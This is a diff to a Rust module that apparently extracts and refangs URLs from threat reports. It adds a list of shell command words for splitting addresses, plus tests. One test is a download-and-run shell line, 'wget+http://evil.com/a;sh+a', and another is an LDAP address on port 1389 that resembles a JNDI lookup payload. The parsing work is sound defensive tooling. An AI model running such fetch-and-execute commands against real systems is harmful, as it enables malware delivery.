@@ -5,7 +5,9 @@ use crate::found::{Doubt, Finds};
 
 /// A scheme as written, and what it stands for; letters that defanging replaced count.
 fn scheme(written: &str) -> Option<(String, bool)> {
-    let lower = written.to_ascii_lowercase();
+    // `wget+http`: a query's blank. Schemes of which the second part is one of the web's are a version control system's.
+    let own = written.rsplit_once('+').filter(|(tool, _)| !matches!(*tool, "git" | "svn" | "hg" | "bzr"));
+    let lower = own.map_or(written, |(_, own)| own).to_ascii_lowercase();
     let meant = match lower.as_str() {
         "hxxp" | "htxp" | "hxtp" | "h**p" | "h__p" | "hxp" | "htp" | "hyyp" | "hp" | "hhxp" | "h--p" | "ht*p"
         | "meow" | "tcp-http" => "http",
@@ -53,6 +55,15 @@ fn returns_to_ascii(rest: &[u8]) -> bool {
         && rest.get(wide + 1).is_some_and(u8::is_ascii_alphanumeric)
 }
 
+/// The words that go on after an address in a line of a shell: `wget http://…/x.sh;sh x.sh`.
+fn begins_command(rest: &str) -> bool {
+    const COMMANDS: [&str; 12] =
+        ["sh", "bash", "chmod", "curl", "wget", "cd", "rm", "perl", "python", "nohup", "tftp", "busybox"];
+    let rest = rest.trim_start_matches('+');
+    let word = rest.bytes().take(8).take_while(u8::is_ascii_alphabetic).count();
+    rest.starts_with("./") || COMMANDS.contains(&&rest[..word])
+}
+
 /// End of an address whose path begins at `from`: what follows a sentence or a bracket is not its own.
 fn end_of(text: &str, from: usize, quoted: Option<u8>) -> usize {
     let bytes = text.as_bytes();
@@ -63,6 +74,7 @@ fn end_of(text: &str, from: usize, quoted: Option<u8>) -> usize {
             byte if Some(byte) == quoted => break,
             b'(' => open += 1,
             b')' if closed == open => break,
+            b';' if begins_command(&text[end + 1..]) => break,
             b')' => closed += 1,
             0x80.. if stops_wide(&bytes[end..]) => break,
             // Scripts that write without blanks go on after an address; inside a name, ASCII follows once more.
@@ -312,5 +324,8 @@ mod tests {
         assert_eq!(one("https://evil.com/a”"), "https://evil.com/a");
         assert_eq!(one("ftp://10.0.0.1/x"), "turned: private-address");
         assert_eq!(one("meow://evil.com"), "http://evil.com");
+        assert_eq!(one("wget+http://evil.com/a;sh+a"), "http://evil.com/a");
+        assert_eq!(one("git+https://evil.com/a;sid=1"), "git+https://evil.com/a;sid=1");
+        assert_eq!(one("ldap://evil.com:1389/a}"), "ldap://evil.com:1389/a");
     }
 }
